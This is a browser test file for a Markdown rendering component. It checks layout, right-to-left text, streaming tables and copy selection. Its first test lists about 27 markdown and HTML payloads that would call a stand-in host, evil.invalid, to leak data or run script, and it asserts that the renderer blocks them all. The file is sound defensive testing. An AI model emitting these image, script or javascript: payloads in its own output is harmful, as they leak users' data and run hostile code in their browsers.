// What only a browser knows of markdown: which requests leave the page, how wide things are, on which side they stand.
import '../../src/markdown/markdown.css'
import { render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { Markdown } from '../../src/markdown/index.js'

/** Ways in which text has made pages call home. */
const exfiltration: readonly string[] = [
  '![a](https://evil.invalid/a.png)',
  '![a](//evil.invalid/a.png)',
  '![a](/\\evil.invalid/a.png)',
  '![a](http://evil.invalid/?q=secret "t")',
  '![a][r]\n\n[r]: https://evil.invalid/r.png',
  '![a](<https://evil.invalid/b c.png>)',
  '[![a](https://evil.invalid/c.png)](https://evil.invalid)',
  '![a](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.invalid/d.png"/></svg>)',
  '![a](data:text/html,<script>fetch("https://evil.invalid")</script>)',
  '![a](blob:https://evil.invalid/1)',
  '<img src="https://evil.invalid/e.png" onerror="globalThis.hacked = true">',
  '<img srcset="https://evil.invalid/f.png 1x">',
  '<picture><source srcset="https://evil.invalid/g.png"></picture>',
  '<script>globalThis.hacked = true</script>',
  '<svg onload="globalThis.hacked = true"><image href="https://evil.invalid/h.png"/></svg>',
  '<style>@import "https://evil.invalid/i.css"; body { background: url(https://evil.invalid/j.png) }</style>',
  '<div style="background: url(https://evil.invalid/k.png)">x</div>',
  '<iframe src="https://evil.invalid"></iframe><object data="https://evil.invalid"></object>',
  '<link rel="stylesheet" href="https://evil.invalid/l.css"><meta http-equiv="refresh" content="0;url=https://evil.invalid">',
  '<video src="https://evil.invalid/m.mp4" poster="https://evil.invalid/n.png" autoplay></video>',
  '<audio src="https://evil.invalid/o.mp3" autoplay></audio><embed src="https://evil.invalid/p">',
  '<form action="https://evil.invalid"><button autofocus onfocus="globalThis.hacked = true">x</button></form>',
  '[x](javascript:globalThis.hacked=true) <javascript:alert(1)> [x](<java\tscript:alert(1)>)',
  '[x](https://evil.invalid/q) <https://evil.invalid/r> https://evil.invalid/s',
  '| a |\n| - |\n| ![a](https://evil.invalid/t.png) |\n',
  '- ![a](https://evil.invalid/u.png)\n\nnote[^1]\n\n[^1]: ![a](https://evil.invalid/v.png)',
  '```html\n<img src="https://evil.invalid/w.png">\n```',
]

afterEach(() => {
  document.body.replaceChildren()
})

function show(text: string, width = 600): HTMLElement {
  const { container } = render(<Markdown text={text} />)
  container.style.inlineSize = `${width}px`
  return container
}

describe('<Markdown> in a browser', () => {
  it('lets nothing that a model wrote leave the page or run', async () => {
    const text = exfiltration.join('\n\n')
    performance.clearResourceTimings()
    const { rerender } = render(<Markdown text="" streaming />)
    for (const corpus of [...exfiltration, text]) {
      for (let end = 1; end < corpus.length; end += corpus === text ? 97 : 7) {
        rerender(<Markdown text={corpus.slice(0, end)} streaming />)
      }
      rerender(<Markdown text={corpus} />)
    }
    // An image of our own that has arrived: requests made before it have been noted too.
    const probe = new Image()
    probe.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAAC'
    await probe.decode().catch(() => undefined)
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
    const left = performance.getEntriesByType('resource').filter(({ name }) => /evil/.test(name))
    expect(left.map(({ name }) => name)).toEqual([])
    expect(Reflect.get(globalThis, 'hacked')).toBeUndefined()
    const loading =
      'img[src], script, iframe, object, embed, video, audio, style, link, form, [style]'
    expect(document.querySelectorAll(`.as-md :is(${loading})`)).toHaveLength(0)
    for (const link of document.querySelectorAll<HTMLAnchorElement>('.as-md a[href]')) {
      expect(['https:', 'http:']).toContain(link.protocol)
    }
  })

  it.each([
    ['a long word', 'a'.repeat(400)],
    ['a long address', `https://example.com/${'q=1&'.repeat(100)}`],
    ['a long path', 'C:\\very\\long\\path'.repeat(20)],
    ['long inline code', `\`${'x'.repeat(400)}\``],
    ['a long word in a list', `- ${'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(5)}`],
    ['a long word in a list in a quote', `> - ${'b'.repeat(400)}`],
    ['long table cells', `| ${'h'.repeat(300)} | x |\n| - | - |\n| ${'c'.repeat(300)} | y |`],
    ['a long line of code', `\`\`\`\n${'code '.repeat(200)}\n\`\`\``],
    ['a long image', `![${'alt'.repeat(100)}](https://${'p'.repeat(60)}.example/)`],
    ['a long heading', `# ${'H'.repeat(300)}`],
  ])('keeps %s inside a narrow column', (_name, text) => {
    for (const width of [288, 600]) {
      const container = show(text, width)
      expect(container.scrollWidth).toBe(width)
      expect(container.firstElementChild?.scrollWidth).toBeLessThanOrEqual(width)
    }
  })

  it('does not break a short table header per letter', () => {
    const cells = Array.from({ length: 12 }, (_, index) => `Header${index}`)
    const container = show(`| ${cells.join(' | ')} |\n|${' - |'.repeat(12)}\n`, 288)
    const header = container.querySelector('th')
    expect(header?.offsetHeight).toBeLessThan(40)
    const box = container.querySelector('.as-md-table')
    expect(box?.scrollWidth).toBeGreaterThan(box?.clientWidth ?? 0)
  })

  it('keeps the columns of a growing table in number, and its rows in place', () => {
    const text =
      '| Name | Quantity |\n| --- | --- |\n| apple | 3 |\n| pear | 12 |\n| a much longer name | 4 |\n\nend'
    const { container, rerender } = render(<Markdown text="" streaming />)
    let top: number | undefined
    for (let end = 1; end <= text.length; end++) {
      rerender(<Markdown text={text.slice(0, end)} streaming />)
      const header = container.querySelector('tr')
      if (header === null) continue
      expect(header.cells).toHaveLength(2)
      top ??= header.getBoundingClientRect().top
      expect(header.getBoundingClientRect().top).toBe(top)
    }
  })

  describe('with text from right to left', () => {
    const direction = (element: Element | null): string =>
      element === null ? 'missing' : getComputedStyle(element).direction

    it('lays out each block in its own direction', () => {
      const container = show('English first.\n\nثم فقرة عربية.\n\n`npm run build` ثم أعد التشغيل')
      expect([...container.querySelectorAll('p')].map(direction)).toEqual(['ltr', 'rtl', 'rtl'])
      expect(direction(container.querySelector('code'))).toBe('ltr')
    })

    it('puts list markers and quote bars on the right', () => {
      const container = show(
        '- أولاً\n- ثانياً\n\n1. شغّل `a/b.ts`\n2. done\n\n> اقتباس قصير\n\n- فقرة\n\n  أخرى',
      )
      const root = container.getBoundingClientRect()
      const items = container.querySelectorAll('ul > li')
      expect(items).toHaveLength(3)
      for (const item of items) {
        expect(direction(item)).toBe('rtl')
        const box = item.getBoundingClientRect()
        expect(root.right - box.right).toBeGreaterThan(16)
        expect(box.left).toBe(root.left)
      }
      const [arabic, english] = container.querySelectorAll('ol > li')
      expect([direction(arabic ?? null), direction(english ?? null)]).toEqual(['rtl', 'ltr'])
      const quote = container.querySelector('blockquote')
      expect(quote && getComputedStyle(quote).borderRightWidth).toBe('3px')
    })

    it('lays out tables from the right, and code from the left', () => {
      const container = show(
        '| عمود | ب |\n| --- | --- |\n| ١ | ٢ |\n\nשלום!\n\n```sh\nls -la\n```',
      )
      const [first, second] = container.querySelectorAll('th')
      expect(first?.getBoundingClientRect().left).toBeGreaterThan(
        second?.getBoundingClientRect().left ?? Infinity,
      )
      expect(direction(container.querySelector('pre'))).toBe('ltr')
    })

    it('does not change direction after the first strong character', () => {
      const text = 'مرحبا، hello there كيف حالك؟'
      const { container, rerender } = render(<Markdown text="" streaming />)
      for (let end = 1; end <= text.length; end++) {
        rerender(<Markdown text={text.slice(0, end)} streaming />)
        expect(direction(container.querySelector('p'))).toBe('rtl')
      }
    })
  })

  it('leaves the words of buttons out of a selection', () => {
    const container = show('before\n\n```js\nlet a\n```\n\nafter')
    const selection = getSelection()
    selection?.selectAllChildren(container)
    expect(selection?.toString()).not.toContain('Copy code')
    expect(selection?.toString()).toContain('let a')
  })
})
